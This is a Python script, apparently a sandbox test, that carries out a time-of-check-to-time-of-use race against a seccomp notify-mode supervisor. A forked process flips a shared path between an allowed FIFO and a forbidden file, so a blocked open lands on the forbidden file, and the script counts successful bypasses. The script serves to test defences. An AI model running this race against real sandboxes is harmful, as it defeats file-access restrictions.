"""Threat: a FIFO open that waits for its other end was answered "continue"
in notify mode (the supervisor's thread cannot wait), so the kernel read
the path again: another process sharing the page flips it between a FIFO
in the workspace (allowed) and a forbidden file, and the open that was
decided on the FIFO opens the file.

  read   open(O_RDONLY): it waits for a writer (a helper process opens
         the FIFO for writing over and over);
  write  open(O_WRONLY): it waits for a reader (the helper reads).

Usage: race_fifo.py read|write FIFO FORBIDDEN ROUNDS
Makes FIFO. Prints "opened: N" (FIFO opens) and "won: N" (opens that got
the forbidden file instead; nothing is read from or written to it).
"""

import ctypes
import errno
import mmap
import os
import signal
import stat
import sys

DONE = 42
libc = ctypes.CDLL(None, use_errno=True)
libc.open.restype = ctypes.c_int
libc.open.argtypes = (ctypes.c_void_p, ctypes.c_int)

variant, fifo, forbidden, rounds = sys.argv[1], sys.argv[2], sys.argv[3], int(sys.argv[4])
os.mkfifo(fifo)
allowed = os.fsencode(os.path.abspath(fifo)) + b"\0"
other = os.fsencode(os.path.abspath(forbidden)) + b"\0"
size = max(len(allowed), len(other))
states = [allowed.ljust(size, b"\0"), other.ljust(size, b"\0")]
page = mmap.mmap(-1, mmap.PAGESIZE)  # MAP_SHARED: the flipper (a fork) writes it
page[:size] = states[0]
buf = ctypes.addressof(ctypes.c_char.from_buffer(page))
flags = (os.O_RDONLY if variant == "read" else os.O_WRONLY) | os.O_CLOEXEC


def forever(step):
    while True:
        step()


def flip():
    i = 0
    while True:
        page[:size] = states[i & 1]
        i += 1


def other_end():
    # The FIFO's other end, opened and closed at once: a waiting open returns.
    end = (os.O_WRONLY if variant == "read" else os.O_RDONLY) | os.O_NONBLOCK
    try:
        os.close(os.open(fifo, end))
    except OSError as e:
        if e.errno != errno.ENXIO:  # ENXIO: no reader is waiting yet
            raise


children = []
ready_r, ready_w = os.pipe()
for job in (flip, lambda: forever(other_end)):
    pid = os.fork()
    if pid == 0:
        os.write(ready_w, b"x")
        job()
    children.append(pid)
os.read(ready_r, 1)
os.read(ready_r, 1)
opened = won = 0
for _ in range(rounds):
    # Only while the flipper runs (a busy host may keep it waiting).
    seen = page[:size]
    while page[:size] == seen:
        pass
    fd = libc.open(buf, flags)
    if fd < 0:
        continue
    if stat.S_ISFIFO(os.fstat(fd).st_mode):
        opened += 1
    else:
        won += 1
    os.close(fd)
for pid in children:
    os.kill(pid, signal.SIGKILL)
    os.waitpid(pid, 0)
print(f"opened: {opened}", flush=True)
print(f"won: {won}", flush=True)
sys.exit(DONE)
